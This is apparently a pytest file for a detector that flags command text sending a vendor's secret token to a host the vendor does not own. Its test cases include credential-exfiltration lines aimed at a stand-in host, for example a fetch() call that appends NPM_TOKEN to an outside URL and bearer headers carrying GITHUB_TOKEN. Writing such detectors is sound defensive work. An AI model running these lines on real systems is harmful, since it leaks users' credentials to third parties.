"""A vendor's token on its way to somebody else's host."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.command.tokens_elsewhere import sent_elsewhere


@pytest.mark.parametrize(
    ("text", "host", "expected"),
    [
        ("Authorization: Bearer $GITHUB_TOKEN", "c.example.net", True),
        ("Authorization: Bearer ${GITHUB_TOKEN}", "c.example.net", True),
        ("Authorization: Bearer $GITHUB_TOKEN", "api.github.com", False),
        ("Authorization: Bearer $GITHUB_TOKEN", "notgithub.com", True),
        ("https://c.example.net/?k=$AWS_SECRET_ACCESS_KEY", "c.example.net", True),
        ("k=$AWS_SECRET_ACCESS_KEY", "s3.eu-west-1.amazonaws.com", False),
        ("k=$SSH_PRIVATE_KEY", "api.github.com", True),
        ("k=$env:OPENAI_API_KEY", "c.example.net", True),
        ("k=%OPENAI_API_KEY%", "c.example.net", True),
        ("fetch('https://c.example.net/?'+process.env.NPM_TOKEN)", "c.example.net", True),
        ("os.environ['GITHUB_TOKEN']", "c.example.net", True),
        ("k=$ANTHROPIC_API_KEY", "localhost", False),
        ("k=$ANTHROPIC_API_KEY", "10.0.0.3", False),
        ("k=$TOKEN", "c.example.net", False),
        ("k=$MY_GITHUB_TOKEN", "c.example.net", False),
        ("see GITHUB_TOKEN in env", "c.example.net", False),
        ("k=$GITHUB_TOKEN_URL", "c.example.net", False),
    ],
)
def test_whose_token_goes_where(text: str, host: str, expected: bool) -> None:
    assert sent_elsewhere([text], [host]) is expected


def test_one_stranger_is_enough() -> None:
    assert sent_elsewhere(["$GITHUB_TOKEN"], ["api.github.com", "c.example.net"])
    assert not sent_elsewhere(["$GITHUB_TOKEN"], [])


@given(st.text(max_size=200), st.text(max_size=40))
def test_any_text(text: str, host: str) -> None:
    assert sent_elsewhere([text], [host]) is sent_elsewhere([text], [host])
